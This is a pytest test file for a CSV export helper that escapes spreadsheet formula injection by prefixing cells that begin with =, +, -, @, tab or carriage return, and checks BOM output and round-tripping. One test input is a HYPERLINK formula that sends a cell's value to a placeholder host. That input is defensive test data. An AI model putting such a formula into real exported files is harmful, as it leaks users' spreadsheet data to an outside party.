"""Spreadsheet-safe CSV downloads."""

from __future__ import annotations

import csv
import io

import pytest

from l2c_core.export import safe_cell, spreadsheet_csv


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://example.invalid/?q="&A1,"Open quote")',
            '\'=HYPERLINK("http://example.invalid/?q="&A1,"Open quote")',
        ),
        ("+cmd follow-up", "'+cmd follow-up"),
        ("-call back Friday", "'-call back Friday"),
        ("@Rivalsoft", "'@Rivalsoft"),
        ("=1+1", "'=1+1"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("plain text", "plain text"),
        (-1200, "-1200"),
        (-1200.5, "-1200.5"),
        (0, "0"),
        (None, ""),
        (float("nan"), ""),
    ],
)
def test_safe_cell_escapes_text_formulas_never_numbers(
    value: object, expected: str
) -> None:
    assert safe_cell(value) == expected


def test_spreadsheet_csv_has_bom_and_round_trips() -> None:
    data = spreadsheet_csv(
        [
            {
                "id": "006B1",
                "amount": -1200,
                "next": "=1+1",
                "name": "Zoë – “quoted”, line\nbreak",
            }
        ],
        ["id", "amount", "next", "name"],
    )
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["id", "amount", "next", "name"],
        ["006B1", "-1200", "'=1+1", "Zoë – “quoted”, line\nbreak"],
    ]
